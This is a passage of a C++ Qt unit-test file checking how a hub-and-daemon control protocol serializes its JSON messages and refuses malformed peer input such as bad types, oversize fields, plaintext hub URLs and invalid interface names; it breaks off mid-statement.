// Unit tests of the JSON control messages (common/protocol/controlmessage.h):
// each message against the wire object written out here, and the refusals a
// hub or daemon must give a confused or hostile peer.

#include "common/protocol/controlmessage.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace cloop;
using namespace cloop::protocol;

Q_DECLARE_METATYPE(cloop::protocol::ControlMessage)

namespace {

QByteArray json(const QJsonObject &object)
{
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

// Equality of two messages, whatever their type.
bool same(const ControlMessage &a, const ControlMessage &b)
{
    // Every message type compares field by field (defaulted operator==).
    return a == b;
}

DeviceSpec usbDevice()
{
    DeviceSpec spec;
    spec.kind = DeviceSpec::Kind::Usb;
    spec.vendorId = 0x1050;
    spec.productId = 0x0407;
    spec.serial = QStringLiteral("ABC123");
    return spec;
}

DeviceSpec segmentDevice()
{
    DeviceSpec spec;
    spec.kind = DeviceSpec::Kind::Segment;
    spec.interfaceName = QStringLiteral("enp0s31f6");
    return spec;
}

QJsonObject validHello()
{
    return { { QStringLiteral("type"), QStringLiteral("hello") },
        { QStringLiteral("protocol"), 22 },
        { QStringLiteral("software"), QStringLiteral("cloop-forward 0.1.0") },
        { QStringLiteral("role"), QStringLiteral("forwarder") },
        { QStringLiteral("credential"), QStringLiteral("cfc_secret") } };
}

QJsonObject validWelcome()
{
    return { { QStringLiteral("type"), QStringLiteral("welcome") },
        { QStringLiteral("protocol"), 22 },
        { QStringLiteral("software"), QStringLiteral("cloop-hub 0.1.0") },
        { QStringLiteral("id"), 7 }, { QStringLiteral("name"), QStringLiteral("lab-yubikey") } };
}

QJsonObject with(QJsonObject object, const QString &key, const QJsonValue &value)
{
    object.insert(key, value);
    return object;
}

QJsonObject without(QJsonObject object, const QString &key)
{
    object.remove(key);
    return object;
}

} // namespace

class TestControlMessage final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void roundTrip_data();
    void roundTrip();
    void runMessagesRoundTrip_data();
    void runMessagesRoundTrip();
    void runMessagesRefused_data();
    void runMessagesRefused();
    void refuses_data();
    void refuses();
    void sizeLimitIsInclusive();
    void idsUpToTwoToThe53();
    void anUpgradeRequestCarriesItsTargetAlone();
};

void TestControlMessage::roundTrip_data()
{
    QTest::addColumn<ControlMessage>("message");
    QTest::addColumn<QJsonObject>("wire");
    QTest::addColumn<QString>("type");

    const QString pinA
        = QStringLiteral("sha256:") + QString(43, QLatin1Char('A')) + QLatin1Char('=');
    const QString pinB
        = QStringLiteral("sha256:") + QString(43, QLatin1Char('B')) + QLatin1Char('=');
    {
        Welcome welcome { 26, QStringLiteral("0.1.0"), 7, QStringLiteral("bench"), std::nullopt,
            { pinA, pinB } };
        QTest::newRow("welcome with pins")
            << ControlMessage(welcome)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("welcome") },
                   { QStringLiteral("protocol"), 26 },
                   { QStringLiteral("software"), QStringLiteral("0.1.0") },
                   { QStringLiteral("id"), 7 }, { QStringLiteral("name"), QStringLiteral("bench") },
                   { QStringLiteral("pins"), QJsonArray::fromStringList({ pinA, pinB }) } }
            << QStringLiteral("welcome");
        QTest::newRow("hub.pins")
            << ControlMessage(HubPins { { pinB } })
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.pins") },
                   { QStringLiteral("pins"), QJsonArray::fromStringList({ pinB }) } }
            << QStringLiteral("hub.pins");
    }
    {
        // A cluster's members: TLS anywhere, plaintext to loopback only.
        const QStringList members { QStringLiteral("wss://hub-a.example:7443"),
            QStringLiteral("https://hub-b.example"), QStringLiteral("ws://127.0.0.1:7443") };
        QList<QUrl> urls;
        for (const QString &member : members)
            urls.append(QUrl(member));
        Welcome welcome { 29, QStringLiteral("0.5.0"), 7, QStringLiteral("bench"), std::nullopt,
            { pinA }, urls };
        QTest::newRow("welcome with hubs")
            << ControlMessage(welcome)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("welcome") },
                   { QStringLiteral("protocol"), 29 },
                   { QStringLiteral("software"), QStringLiteral("0.5.0") },
                   { QStringLiteral("id"), 7 }, { QStringLiteral("name"), QStringLiteral("bench") },
                   { QStringLiteral("pins"), QJsonArray::fromStringList({ pinA }) },
                   { QStringLiteral("hubs"), QJsonArray::fromStringList(members) } }
            << QStringLiteral("welcome");
        QTest::newRow("hub.members")
            << ControlMessage(HubMembers { urls })
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.members") },
                   { QStringLiteral("hubs"), QJsonArray::fromStringList(members) } }
            << QStringLiteral("hub.members");
        QList<QUrl> sixteen;
        QStringList sixteenTexts;
        for (int i = 1; i <= kMaxHubMembers; ++i) {
            sixteenTexts.append(QStringLiteral("wss://hub-%1.example:7443").arg(i));
            sixteen.append(QUrl(sixteenTexts.last()));
        }
        QTest::newRow("hub.members, sixteen")
            << ControlMessage(HubMembers { sixteen })
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.members") },
                   { QStringLiteral("hubs"), QJsonArray::fromStringList(sixteenTexts) } }
            << QStringLiteral("hub.members");
    }
    {
        Hello hello;
        hello.protocol = 22;
        hello.software = QStringLiteral("cloop-forward 0.1.0");
        hello.role = PeerRole::Forwarder;
        hello.credential = QStringLiteral("cfc_secret");
        QTest::newRow("hello") << ControlMessage(hello) << validHello() << QStringLiteral("hello");
    }
    {
        Hello hello;
        hello.protocol = 23;
        hello.software = QStringLiteral("cloop-agent");
        hello.role = PeerRole::Executor;
        hello.credential = QStringLiteral("cec_other");
        QTest::newRow("hello, executor")
            << ControlMessage(hello)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hello") },
                   { QStringLiteral("protocol"), 23 },
                   { QStringLiteral("software"), QStringLiteral("cloop-agent") },
                   { QStringLiteral("role"), QStringLiteral("executor") },
                   { QStringLiteral("credential"), QStringLiteral("cec_other") } }
            << QStringLiteral("hello");
    }
    {
        Hello hello;
        hello.protocol = 27;
        hello.software = QStringLiteral("0.3.0~git6e750e981505");
        hello.role = PeerRole::Executor;
        hello.credential = QStringLiteral("cec_other");
        hello.channel = QStringLiteral("edge");
        QTest::newRow("hello, with its channel")
            << ControlMessage(hello)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hello") },
                   { QStringLiteral("protocol"), 27 },
                   { QStringLiteral("software"), QStringLiteral("0.3.0~git6e750e981505") },
                   { QStringLiteral("role"), QStringLiteral("executor") },
                   { QStringLiteral("credential"), QStringLiteral("cec_other") },
                   { QStringLiteral("channel"), QStringLiteral("edge") } }
            << QStringLiteral("hello");
    }
    {
        Hello hello;
        hello.protocol = 30;
        hello.software = QStringLiteral("0.4.0");
        hello.role = PeerRole::Executor;
        hello.credential = QStringLiteral("cec_other");
        hello.streamTicket = QString(43, u'T');
        QTest::newRow("hello, for a direct leg")
            << ControlMessage(hello)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("hello") },
                   { QStringLiteral("protocol"), 30 },
                   { QStringLiteral("software"), QStringLiteral("0.4.0") },
                   { QStringLiteral("role"), QStringLiteral("executor") },
                   { QStringLiteral("credential"), QStringLiteral("cec_other") },
                   { QStringLiteral("stream_ticket"), QString(43, u'T') } }
            << QStringLiteral("hello");
    }
    QTest::newRow("upgrade.request")
        << ControlMessage(UpgradeRequest { QStringLiteral("edge:6e750e9"), {} })
        << QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.request") },
               { QStringLiteral("target"), QStringLiteral("edge:6e750e9") } }
        << QStringLiteral("upgrade.request");
    {
        UpgradeStatus draining;
        draining.state = UpgradeStatus::State::Draining;
        draining.target = QStringLiteral("latest");
        draining.from = QStringLiteral("0.3.0");
        draining.draining = 2;
        QTest::newRow("upgrade.status, draining")
            << ControlMessage(draining)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.status") },
                   { QStringLiteral("state"), QStringLiteral("draining") },
                   { QStringLiteral("target"), QStringLiteral("latest") },
                   { QStringLiteral("from"), QStringLiteral("0.3.0") },
                   { QStringLiteral("draining"), 2 } }
            << QStringLiteral("upgrade.status");
        UpgradeStatus rolledBack;
        rolledBack.state = UpgradeStatus::State::RolledBack;
        rolledBack.target = QStringLiteral("0.5.0");
        rolledBack.from = QStringLiteral("0.4.0");
        rolledBack.to = QStringLiteral("0.5.0");
        rolledBack.message = QStringLiteral("did not come back");
        QTest::newRow("upgrade.status, rolled back")
            << ControlMessage(rolledBack)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.status") },
                   { QStringLiteral("state"), QStringLiteral("rolled_back") },
                   { QStringLiteral("target"), QStringLiteral("0.5.0") },
                   { QStringLiteral("from"), QStringLiteral("0.4.0") },
                   { QStringLiteral("to"), QStringLiteral("0.5.0") },
                   { QStringLiteral("message"), QStringLiteral("did not come back") } }
            << QStringLiteral("upgrade.status");
    }
    {
        Redeem redeem;
        redeem.protocol = 22;
        redeem.software = QStringLiteral("cloop-forward 0.1.0");
        redeem.role = PeerRole::Forwarder;
        redeem.token = QStringLiteral("cft_token");
        QTest::newRow("redeem")
            << ControlMessage(redeem)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("redeem") },
                   { QStringLiteral("protocol"), 22 },
                   { QStringLiteral("software"), QStringLiteral("cloop-forward 0.1.0") },
                   { QStringLiteral("role"), QStringLiteral("forwarder") },
                   { QStringLiteral("token"), QStringLiteral("cft_token") } }
            << QStringLiteral("redeem");
    }
    {
        Enrolled enrolled;
        enrolled.id = 42;
        enrolled.name = QStringLiteral("lab-yubikey");
        enrolled.credential = QStringLiteral("cfc_new");
        QTest::newRow("enrolled")
            << ControlMessage(enrolled)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("enrolled") },
                   { QStringLiteral("id"), 42 },
                   { QStringLiteral("name"), QStringLiteral("lab-yubikey") },
                   { QStringLiteral("credential"), QStringLiteral("cfc_new") } }
            << QStringLiteral("enrolled");
    }
    {
        Welcome welcome;
        welcome.protocol = 22;
        welcome.software = QStringLiteral("cloop-hub 0.1.0");
        welcome.id = 7;
        welcome.name = QStringLiteral("lab-yubikey");
        QTest::newRow("welcome without device")
            << ControlMessage(welcome) << validWelcome() << QStringLiteral("welcome");

        welcome.device = usbDevice();
        QTest::newRow("welcome with usb device")
            << ControlMessage(welcome)
            << with(validWelcome(), QStringLiteral("device"),
                   QJsonObject { { QStringLiteral("kind"), QStringLiteral("usb") },
                       { QStringLiteral("vendor"), QStringLiteral("1050") },
                       { QStringLiteral("product"), QStringLiteral("0407") },
                       { QStringLiteral("serial"), QStringLiteral("ABC123") } })
            << QStringLiteral("welcome");

        welcome.device = segmentDevice();
        QTest::newRow("welcome with l2 device")
            << ControlMessage(welcome)
            << with(validWelcome(), QStringLiteral("device"),
                   QJsonObject { { QStringLiteral("kind"), QStringLiteral("l2") },
                       { QStringLiteral("interface"), QStringLiteral("enp0s31f6") } })
            << QStringLiteral("welcome");
    }
    {
        ErrorMessage error;
        error.code = QStringLiteral("credential_revoked");
        error.message = QStringLiteral("this forwarder was removed");
        error.permanent = true;
        QTest::newRow("error, permanent")
            << ControlMessage(error)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("error") },
                   { QStringLiteral("code"), QStringLiteral("credential_revoked") },
                   { QStringLiteral("message"), QStringLiteral("this forwarder was removed") },
                   { QStringLiteral("permanent"), true } }
            << QStringLiteral("error");
        error.code = QStringLiteral("hub_busy");
        error.message = QStringLiteral("try later");
        error.permanent = false;
        QTest::newRow("error, transient")
            << ControlMessage(error)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("error") },
                   { QStringLiteral("code"), QStringLiteral("hub_busy") },
                   { QStringLiteral("message"), QStringLiteral("try later") },
                   { QStringLiteral("permanent"), false } }
            << QStringLiteral("error");
        error.code = QStringLiteral("hub_stopping");
        error.message = QStringLiteral("the hub is stopping");
        error.retryWithinMs = 20'000;
        QTest::newRow("error, with a return window")
            << ControlMessage(error)
            << QJsonObject { { QStringLiteral("type"), QStringLiteral("error") },
                   { QStringLiteral("code"), QStringLiteral("hub_stopping") },
                   { QStringLiteral("message"), QStringLiteral("the hub is stopping") },
                   { QStringLiteral("permanent"), false },
                   { QStringLiteral("retry_within_ms"), 20'000 } }
            << QStringLiteral("error");
    }
}

void TestControlMessage::roundTrip()
{
    QFETCH(ControlMessage, message);
    QFETCH(QJsonObject, wire);
    QFETCH(QString, type);

    QCOMPARE(controlMessageType(message), type);

    // When serialized, then the wire object is exactly the documented one.
    const QByteArray bytes = serializeControlMessage(message);
    const QJsonDocument document = QJsonDocument::fromJson(bytes);
    QVERIFY(document.isObject());
    QCOMPARE(document.object(), wire);

    // When the documented wire object is parsed, then the same message comes back.
    const Result<ControlMessage> parsed = parseControlMessage(json(wire));
    QVERIFY2(parsed.ok(), qPrintable(parsed.ok() ? QString() : parsed.error().message));
    QVERIFY(same(*parsed, message));

    // And our own serialization parses too.
    const Result<ControlMessage> reparsed = parseControlMessage(bytes);
    QVERIFY(reparsed.ok());
    QVERIFY(same(*reparsed, message));
}

void TestControlMessage::refuses_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("problem"); // must appear in the message

    QTest::newRow("empty") << QByteArray() << QStringLiteral("not JSON");
    const QString pin
        = QStringLiteral("sha256:") + QString(43, QLatin1Char('A')) + QLatin1Char('=');
    const auto hubPins = [](const QJsonValue &pins) {
        return json(QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.pins") },
            { QStringLiteral("pins"), pins } });
    };
    QTest::newRow("hub.pins without pins")
        << hubPins(QJsonArray()) << QStringLiteral("names no key");
    QTest::newRow("hub.pins not a list") << hubPins(pin) << QStringLiteral("must be a list");
    QTest::newRow("hub.pins, seventeen")
        << hubPins(QJsonArray::fromStringList(QStringList(kMaxHubPins + 1, pin)))
        << QStringLiteral("at most 16");
    const auto hubMembers = [](const QJsonValue &hubs) {
        return json(QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.members") },
            { QStringLiteral("hubs"), hubs } });
    };
    const auto welcomeHubs = [](const QJsonValue &hubs) {
        return json(with(validWelcome(), QStringLiteral("hubs"), hubs));
    };
    const QString member = QStringLiteral("wss://hub-a.example:7443");
    QStringList seventeen;
    for (int i = 1; i <= kMaxHubMembers + 1; ++i)
        seventeen.append(QStringLiteral("wss://hub-%1.example:7443").arg(i));
    QTest::newRow("hub.members without hubs")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("hub.members") } })
        << QStringLiteral("\"hubs\": not a list of 1 to 16 hub URLs");
    QTest::newRow("hub.members, empty")
        << hubMembers(QJsonArray()) << QStringLiteral("not a list of 1 to 16");
    QTest::newRow("hub.members, a string, not a list")
        << hubMembers(member) << QStringLiteral("not a list of 1 to 16");
    QTest::newRow("hub.members, seventeen") << hubMembers(QJsonArray::fromStringList(seventeen))
                                            << QStringLiteral("not a list of 1 to 16");
    QTest::newRow("hub.members, a number")
        << hubMembers(QJsonArray({ QJsonValue(7443) })) << QStringLiteral("must be strings");
    QTest::newRow("hub.members, twice")
        << hubMembers(QJsonArray::fromStringList(
               { member, QStringLiteral("wss://hub-b.example"), member }))
        << QStringLiteral("wss://hub-a.example:7443 is named twice");
    QTest::newRow("hub.members, twice as https") << hubMembers(
        QJsonArray::fromStringList({ member, QStringLiteral("https://hub-a.example:7443/") }))
                                                 << QStringLiteral("named twice");
    QTest::newRow("hub.members, plaintext to another host")
        << hubMembers(
               QJsonArray::fromStringList({ member, QStringLiteral("ws://hub-b.example:7443") }))
        << QStringLiteral("refusing plaintext ws to hub-b.example");
    QTest::newRow("hub.members, another scheme")
        << hubMembers(QJsonArray::fromStringList({ QStringLiteral("ftp://hub-a.example") }))
        << QStringLiteral("scheme \"ftp\"");
    QTest::newRow("hub.members, no host")
        << hubMembers(QJsonArray::fromStringList({ QStringLiteral("wss:///api") }))
        << QStringLiteral("is not a hub URL");
    QTest::newRow("hub.members, garbage")
        << hubMembers(QJsonArray::fromStringList({ QStringLiteral("not a url") }))
        << QStringLiteral("is not a hub URL");
    QTest::newRow("hub.members, user name") << hubMembers(
        QJsonArray::fromStringList({ QStringLiteral("wss://admin:secret@hub-a.example") }))
                                            << QStringLiteral("user name");
    QTest::newRow("hub.members, query")
        << hubMembers(QJsonArray::fromStringList({ QStringLiteral("wss://hub-a.example/?x=1") }))
        << QStringLiteral("query");
    QTest::newRow("hub.members, overlong") << hubMembers(QJsonArray::fromStringList(
        { QStringLiteral("wss://") + QString(300, QLatin1Char('a')) + QStringLiteral(".example") }))
                                           << QStringLiteral("longer than a hub URL may be");
    QTest::newRow("welcome, hubs empty") << welcomeHubs(QJsonArray()) << QStringLiteral("\"hubs\"");
    QTest::newRow("welcome, hubs not a list") << welcomeHubs(member) << QStringLiteral("\"hubs\"");
    QTest::newRow("welcome, hubs plaintext to another host")
        << welcomeHubs(QJsonArray::fromStringList({ QStringLiteral("http://10.1.2.3:7443") }))
        << QStringLiteral("refusing plaintext http");
    QTest::newRow("welcome, hubs twice")
        << welcomeHubs(QJsonArray::fromStringList({ member, member }))
        << QStringLiteral("named twice");
    QTest::newRow("hub.pins, no pin")
        << hubPins(QJsonArray::fromStringList({ QStringLiteral("sha256:nope") }))
        << QStringLiteral("each be one pin");
    QTest::newRow("hub.pins, two in one")
        << hubPins(QJsonArray::fromStringList({ pin + QLatin1Char(',') + pin }))
        << QStringLiteral("each be one pin");
    QTest::newRow("hub.pins, a number")
        << hubPins(QJsonArray({ QJsonValue(1) })) << QStringLiteral("each be one pin");
    QTest::newRow("not JSON") << QByteArrayLiteral("hello hub") << QStringLiteral("not JSON");
    QTest::newRow("truncated JSON") << json(validHello()).chopped(1) << QStringLiteral("not JSON");
    QTest::newRow("JSON array") << QByteArrayLiteral(R"([{"type":"hello"}])")
                                << QStringLiteral("not a JSON object");
    QTest::newRow("JSON string") << QByteArrayLiteral(R"("hello")") << QStringLiteral("not");
    QTest::newRow("missing type") << json(without(validHello(), QStringLiteral("type")))
                                  << QStringLiteral("has no \"type\"");
    QTest::newRow("type not a string")
        << json(with(validHello(), QStringLiteral("type"), 1)) << QStringLiteral("has no \"type\"");
    QTest::newRow("unknown type") << json(with(validHello(), QStringLiteral("type"),
        QStringLiteral("gossip"))) << QStringLiteral("unknown control message type \"gossip\"");
    QTest::newRow("protocol as string")
        << json(with(validHello(), QStringLiteral("protocol"), QStringLiteral("22")))
        << QStringLiteral("hello message: \"protocol\" must be an integer");
    QTest::newRow("non-integer protocol")
        << json(with(validHello(), QStringLiteral("protocol"), 22.5))
        << QStringLiteral("hello message: \"protocol\" must be an integer");
    // Far outside qint64. Refused in a normal build, but FieldReader::integer()
    // converts the double to qint64 before checking its range, which is
    // undefined behaviour: a build with -fsanitize=float-cast-overflow
    // -fno-sanitize-recover aborts on these rows (controlmessage.cpp:46).
    QTest::newRow("protocol 1e300") << json(with(validHello(), QStringLiteral("protocol"), 1e300))
                                    << QStringLiteral("hello message: \"protocol\"");
    QTest::newRow("protocol -1e300") << json(with(validHello(), QStringLiteral("protocol"), -1e300))
                                     << QStringLiteral("hello message: \"protocol\"");
    QTest::newRow("missing protocol") << json(without(validHello(), QStringLiteral("protocol")))
                                      << QStringLiteral("\"protocol\" must be an integer");
    QTest::newRow("protocol 0") << json(with(validHello(), QStringLiteral("protocol"), 0))
                                << QStringLiteral("\"protocol\" = 0 is outside 1..10000");
    QTest::newRow("credential empty")
        << json(with(validHello(), QStringLiteral("credential"), QString()))
        << QStringLiteral("hello message: \"credential\" must not be empty");
    QTest::newRow("credential missing") << json(without(validHello(), QStringLiteral("credential")))
                                        << QStringLiteral("\"credential\" must be a string");
    QTest::newRow("credential a number")
        << json(with(validHello(), QStringLiteral("credential"), 5))
        << QStringLiteral("\"credential\" must be a string");
    QTest::newRow("credential too long")
        << json(with(validHello(), QStringLiteral("credential"), QString(257, QLatin1Char('c'))))
        << QStringLiteral("\"credential\" is longer than 256 characters");
    QTest::newRow("role unknown") << json(
        with(validHello(), QStringLiteral("role"), QStringLiteral("admin")))
                                  << QStringLiteral(
                                         "\"role\" must be \"forwarder\" or \"executor\"");
    QTest::newRow("role missing") << json(without(validHello(), QStringLiteral("role")))
                                  << QStringLiteral("\"role\" must be a string");
    QTest::newRow("redeem without token")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("redeem") },
               { QStringLiteral("protocol"), 22 },
               { QStringLiteral("software"), QStringLiteral("x") },
               { QStringLiteral("role"), QStringLiteral("executor") } })
        << QStringLiteral("redeem message: \"token\" must be a string");
    QTest::newRow("enrolled id 0")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("enrolled") },
               { QStringLiteral("id"), 0 }, { QStringLiteral("name"), QStringLiteral("n") },
               { QStringLiteral("credential"), QStringLiteral("cfc_x") } })
        << QStringLiteral("enrolled message: \"id\" = 0 is outside");
    QTest::newRow("error permanent as string")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("error") },
               { QStringLiteral("code"), QStringLiteral("c") },
               { QStringLiteral("message"), QStringLiteral("m") },
               { QStringLiteral("permanent"), QStringLiteral("yes") } })
        << QStringLiteral("\"permanent\" must be true or false");
    const auto errorWithWindow = [](const QJsonValue &window, bool permanent) {
        return json(QJsonObject { { QStringLiteral("type"), QStringLiteral("error") },
            { QStringLiteral("code"), QStringLiteral("c") },
            { QStringLiteral("message"), QStringLiteral("m") },
            { QStringLiteral("permanent"), permanent },
            { QStringLiteral("retry_within_ms"), window } });
    };
    QTest::newRow("error window negative")
        << errorWithWindow(-1, false) << QStringLiteral("\"retry_within_ms\" = -1 is outside");
    QTest::newRow("error window past ten minutes") << errorWithWindow(double(kMaxRetryWithinMs + 1),
        false) << QStringLiteral("\"retry_within_ms\" = 600001 is outside");
    QTest::newRow("error window not a number") << errorWithWindow(
        QStringLiteral("soon"), false) << QStringLiteral("\"retry_within_ms\" must be an integer");
    QTest::newRow("error window on a permanent error")
        << errorWithWindow(1000, true) << QStringLiteral("a permanent error is not retried");
    QTest::newRow("oversized message") << json(with(validHello(), QStringLiteral("software"),
        QString(kMaxControlMessageSize, QLatin1Char('s'))))
                                       << QStringLiteral("exceeds %1").arg(kMaxControlMessageSize);
    QTest::newRow("welcome with bad usb device")
        << json(with(validWelcome(), QStringLiteral("device"),
               QJsonObject { { QStringLiteral("kind"), QStringLiteral("usb") },
                   { QStringLiteral("vendor"), QStringLiteral("zz") },
                   { QStringLiteral("product"), QStringLiteral("0407") } }))
        << QStringLiteral("welcome message: USB device \"zz:0407\" is not VID:PID");
    QTest::newRow("welcome with unknown device kind")
        << json(with(validWelcome(), QStringLiteral("device"),
               QJsonObject { { QStringLiteral("kind"), QStringLiteral("bluetooth") } }))
        << QStringLiteral("unknown device kind \"bluetooth\"");
    QTest::newRow("welcome with bad interface")
        << json(with(validWelcome(), QStringLiteral("device"),
               QJsonObject { { QStringLiteral("kind"), QStringLiteral("l2") },
                   { QStringLiteral("interface"), QStringLiteral("a/b") } }))
        << QStringLiteral("\"a/b\" is not a valid network interface name");
    // A final line break is no part of a name: "$" would let it through.
    QTest::newRow("welcome with interface ending in a line break")
        << json(with(validWelcome(), QStringLiteral("device"),
               QJsonObject { { QStringLiteral("kind"), QStringLiteral("l2") },
                   { QStringLiteral("interface"), QStringLiteral("eth0\n") } }))
        << QStringLiteral("is not a valid network interface name");
    QTest::newRow("hello with a stream ticket that is no ticket")
        << json(with(validHello(), QStringLiteral("stream_ticket"), QStringLiteral("short")))
        << QStringLiteral("\"stream_ticket\" is not a stream ticket");
    QTest::newRow("hello with a stream ticket that is no string")
        << json(with(validHello(), QStringLiteral("stream_ticket"), 42))
        << QStringLiteral("\"stream_ticket\" must be a string");
    QTest::newRow("hello with a channel of its own")
        << json(with(validHello(), QStringLiteral("channel"), QStringLiteral("nightly")))
        << QStringLiteral("\"channel\" must be \"stable\" or \"edge\"");
    QTest::newRow("upgrade.request without a target")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.request") } })
        << QStringLiteral("target");
    QTest::newRow("upgrade.status of no state")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.status") },
               { QStringLiteral("state"), QStringLiteral("done") } })
        << QStringLiteral("not an upgrade state");
    QTest::newRow("upgrade.status, a refusal that says nothing")
        << json(QJsonObject { { QStringLiteral("type"), QStringLiteral("upgrade.status") },
               { QStringLiteral("state"), QStringLiteral("refused") } })
        << QStringLiteral("must say why");
    QTest::newRow("welcome with device as string")
        << json(with(validWelcome(), QStringLiteral("device"), QStringLiteral("usb 1050:0407")))
        << QStringLiteral("\"device\" must be an object");
}

void TestControlMessage::refuses()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, problem);

    const Result<ControlMessage> parsed = parseControlMessage(bytes);
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().code, QStringLiteral("protocol_error"));
    QVERIFY2(parsed.error().message.contains(problem),
        qPrintable(QStringLiteral("message \"%1\" does not say \"%2\"")
                       .arg(parsed.error().message, problem)));
}

void TestControlMessage::sizeLimitIsInclusive()
{
    // Given a valid message padded with JSON whitespace to exactly the limit,
    QByteArray bytes = json(validHello());
    bytes.append(QByteArray(kMaxControlMessageSize - bytes.size(), ' '));
    QCOMPARE(bytes.size(), kMaxControlMessageSize);
    // then it parses,
    QVERIFY(parseControlMessage(bytes).ok());
    // and one byte more is refused for its size alone.
    bytes.append(' ');
    const auto parsed = parseControlMessage(bytes);
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().code, QStringLiteral("protocol_error"));
    QVERIFY(parsed.error().message.contains(QStringLiteral("65537 bytes exceeds 65536")));
}

void TestControlMessage::idsUpToTwoToThe53()
{
    // JSON numbers are doubles: ids stop where doubles stop being exact.
    const qint64 largest = qint64(1) << 53;
    QJsonObject object = with(validWelcome(), QStringLiteral("id"), double(largest));
    auto parsed = parseControlMessage(json(object));
    QVERIFY(parsed.ok());
    QCOMPARE(std::get<Welcome>(*parsed).id, largest);

    object = with(validWelcome(), QStringLiteral("id"), double(largest) * 2);
    parsed = parseControlMessage(json(object));
    QVERIFY(!parsed.ok());
    QCOMPARE(parsed.error().code, QStringLiteral("protocol_error"));
    QVERIFY(parsed.error().message.contains(QStringLiteral("\"id\"")));
}

void TestControlMessage::runMessagesRoundTrip_data()
{
    QTest::addColumn<ControlMessage>("message");
    RunStart start;
    start.runId = 41;
    start.image = QStringLiteral("localhost/cloop-busybox:latest");
    start.argv
        = { QStringLiteral("sh"), QStringLiteral("-c"), QStringLiteral("echo \"hi\"; exit 3") };
    start.env = { { QStringLiteral("CLOOP_RUN"), QStringLiteral("41") },
        { QStringLiteral("LANG"), QStringLiteral("C.UTF-8") } };
    start.workdir = QStringLiteral("runs/41");
    start.runtime = QStringLiteral("runc");
    start.resumeOffset = 1234;
    QTest::newRow("run.start") << ControlMessage(start);
    RunStart hostProcess;
    hostProcess.runId = 42;
    hostProcess.argv = { QStringLiteral("true") };
    hostProcess.workdir = QStringLiteral("runs/42");
    hostProcess.hostProcess = true;
    QTest::newRow("run.start host process") << ControlMessage(hostProcess);
    RunStart withDevices = start;
    withDevices.devices
        = { ForwardedDevice { 7, QStringLiteral("fwd-lab"), DeviceSpec::Kind::Segment,
                QStringLiteral("fwd0"), QStringLiteral("192.0.2.10/24"), 9000, QString() },
              ForwardedDevice { 8, QStringLiteral("fwd-lab2"), DeviceSpec::Kind::Segment,
                  QStringLiteral("fwd1"), QString(), 1500, QString() } };
    QTest::newRow("run.start with devices") << ControlMessage(withDevices);
    RunStart withUsb = start;
    withUsb.devices = { ForwardedDevice { 9, QStringLiteral("fwd-hsm"), DeviceSpec::Kind::Usb,
        QString(), QString(), 1500, QStringLiteral("1-1.4") } };
    QTest::newRow("run.start with a USB device") << ControlMessage(withUsb);
    RunStart harness;
    harness.runId = 43;
    harness.workdir = QStringLiteral("runs/43");
    harness.harness = QStringLiteral("claude");
    harness.env = { { QStringLiteral("CLOOP_RUN_ID"), QStringLiteral("43") } };
    QTest::newRow("run.start installing a harness") << ControlMessage(harness);
    QTest::newRow("capabilities") << ControlMessage(
        CapabilitiesReport { QJsonObject { { QStringLiteral("mode"), QStringLiteral("host") },
            { QStringLiteral("harnesses"),
                QJsonObject { { QStringLiteral("claude"),
                    QStringLiteral("/h/.npm-global/bin/claude") } } } } });
    QTest::newRow("run.cancel") << ControlMessage(
        RunCancel { 41, QStringLiteral("cancelled by alice") });
    QTest::newRow("run.ack") << ControlMessage(RunAck { 41, 65536 });
    QTest::newRow("run.started") << ControlMessage(RunStarted { 41 });
    QTest::newRow("run.finished exit") << ControlMessage(RunFinished { 41, 3, QString(), 99 });
    QTest::newRow("run.finished error")
        << ControlMessage(RunFinished { 41, std::nullopt, QStringLiteral("image not known"), 0 });
    QTest::newRow("runs.held") << ControlMessage(RunsHeld { { 3, 41, 9007199254740991 }, {} });
    QTest::newRow("runs.held none") << ControlMessage(RunsHeld {});
    QTest::newRow("runs.held with kept devices")
        << ControlMessage(RunsHeld { { 3, 41 }, { { 3, 7 }, { 41, 9 } } });
    QTest::newRow("device.released") << ControlMessage(
        DeviceReleased { 41, 7, QStringLiteral("binding 7 ended (revoked by alice)") });
    QTest::newRow("device.counters")
        << ControlMessage(DeviceCounters { 41, 7, 120'000, 4'000, 12, 0 });
    QTest::newRow("device.counters of URBs")
        << ControlMessage(DeviceCounters { 41, 7, 300, 301, 0, 0, DeviceCounters::Unit::Urbs });
    QTest::newRow("device.counters at the largest exact count")
        << ControlMessage(DeviceCounters { 41, 7, qint64(1) << 53, 0, 0, qint64(1) << 53 });
    QTest::newRow("device.state jumbo")
        << ControlMessage(DeviceState { 9000, true, true, false, QString() });
    QTest::newRow("device.state loopback")
        << ControlMessage(DeviceState { 65536, true, true, false, QString() });
    QTest::newRow("device.state down")
